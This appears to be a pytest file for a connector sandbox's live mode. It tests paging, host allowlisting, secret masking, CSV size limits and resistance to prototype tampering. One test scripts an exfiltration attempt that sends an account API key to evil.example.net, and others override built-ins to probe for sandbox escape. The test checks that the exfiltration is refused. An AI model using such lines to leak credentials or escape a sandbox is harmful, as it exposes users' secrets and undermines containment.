"""The sandbox's live mode: the review's runtime and limits, requests answered by the network.

Runs the worker's run_script in this process (as the review's sandbox tests do) with a
live exchange pointed at a local API through the host map.
"""

import json
from concurrent.futures import ThreadPoolExecutor

import pytest

from review.engine import sandbox_worker
from tests.runs.local_api import LocalApi


def run_script(*args):
    # In a thread of its own, as tests/review/test_sample_replay.py does: a browser test run
    # earlier in this process leaves an event loop in the main thread, which mini-racer refuses.
    with ThreadPoolExecutor(max_workers=1) as executor:
        return executor.submit(sandbox_worker.run_script, *args).result()


SETUP = {"hosts": ["api.example.com"], "responses": [], "account": {}, "parameters": {}, "masks": []}


@pytest.fixture
def api():
    def items(request):
        page = int(request["query"].get("page", ["1"])[0])
        rows = [{"id": (page - 1) * 3 + i, "name": f"n{(page - 1) * 3 + i}"} for i in range(3)] if page <= 2 else []
        return 200, {"Content-Type": "application/json"}, json.dumps(rows)

    server = LocalApi({"/items": items, "/me": lambda r: (200 if r["headers"].get("x-key") == "good" else 401, {}, "{}")})
    yield server
    server.close()


def live_run(source, api, tmp_path, setup=None, **policy):
    live = {"exchange": "runs.live_exchange:LiveExchange", "rows_path": str(tmp_path / "rows.csv"),
            "progress_path": str(tmp_path / "progress.json"),
            "policy": {"hosts": ["api.example.com"], "host_map": {"api.example.com": api.address}, **policy}}
    return run_script(source, {**SETUP, **(setup or {})}, 10, 128, None, live)


def test_a_paging_report_streams_every_row_to_the_csv(api, tmp_path):
    reply = live_run("""
        var page = 1, rows;
        do {
          rows = JSON.parse(httprequest.get('https://api.example.com/items?page=' + page));
          if (rows.length) { datagrid.magicParseJSON(rows); }
          page += 1;
        } while (rows.length);
    """, api, tmp_path)
    assert reply["status"] == "ok"
    assert reply["live"]["requests"] == 3 and reply["record"]["rows"] == 6
    assert (tmp_path / "rows.csv").read_text().splitlines() == [f"{i},n{i}" for i in range(6)]
    assert json.loads((tmp_path / "progress.json").read_text())["rows"] == 6


def test_a_refused_request_is_status_0_for_the_script_and_kept_masked_for_the_run(api, tmp_path):
    reply = live_run("""
        var body = httprequest.get('https://evil.example.net/?key=' + metadata.account.apikey);
        DOMO.log('status ' + httprequest.getStatusCode() + ' body ' + body.length);
    """, api, tmp_path, setup={"account": {"apikey": "k-123456"}, "masks": ["k-123456"]}, masks=["k-123456"])
    assert reply["record"]["log_lines"] == ["status 0 body 0"]
    assert reply["live"]["refusals"] == ["evil.example.net is not one of the connector's declared hosts"]
    assert api.seen == []


def test_the_script_cannot_reach_the_mailbox_or_the_callback(api, tmp_path):
    reply = live_run("""
        var names = Object.getOwnPropertyNames(this).filter(function (n) { return /live|box|connect/i.test(n); });
        DOMO.log(JSON.stringify(names));
        String.prototype.charCodeAt = function () { return 65; };
        Reflect.apply = function () { throw new Error('hijacked'); };
        DOMO.log(httprequest.get('https://api.example.com/items?page=1').slice(0, 9));
    """, api, tmp_path)
    assert reply["record"]["log_lines"] == ["[]", '[{"id": 0']


def test_the_review_run_is_unchanged_without_live(tmp_path):
    # No `live`: the samples answer, nothing is exchanged.
    setup = {**SETUP, "responses": [{"method": "GET", "url": "https://api.example.com/x", "body": "[]"}]}
    reply = run_script("DOMO.log(httprequest.get('https://api.example.com/x'))", setup, 10, 128)
    assert reply["record"]["log_lines"] == ["[]"] and "live" not in reply


def test_a_result_past_the_csv_limit_stops_the_script(api, tmp_path):
    live = {"exchange": "runs.live_exchange:LiveExchange", "rows_path": str(tmp_path / "rows.csv"),
            "max_csv_bytes": 50_000, "policy": {"hosts": ["api.example.com"]}}
    reply = run_script("""
        datagrid.addColumn('a', 'STRING');
        while (true) { datagrid.addCell('xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx'); datagrid.endRow(); }
    """, SETUP, 10, 128, None, live)
    assert reply["status"] == "ok"
    assert "passed its limit of 50000 bytes of CSV" in reply["record"]["error"]["message"]
    assert reply["live"]["csv_over_limit"] is True
    assert 50_000 < (tmp_path / "rows.csv").stat().st_size < 50_000 + 2 * 1024 * 1024


def test_a_replaced_charcodeat_runs_no_script_code_inside_the_exchange(api, tmp_path):
    reply = live_run("""
        var original = String.prototype.charCodeAt, calls = 0;
        Object.defineProperty(String.prototype, 'charCodeAt', { get: function () { calls += 1; return original; } });
        Object.defineProperty(Object.prototype, 'value', { get: function () { return original; } });
        var body = httprequest.get('https://api.example.com/items?page=1');
        DOMO.log(calls + ' ' + body.slice(0, 9));
    """, api, tmp_path)
    assert reply["record"]["log_lines"] == ['0 [{"id": 0'], reply["record"].get("error")
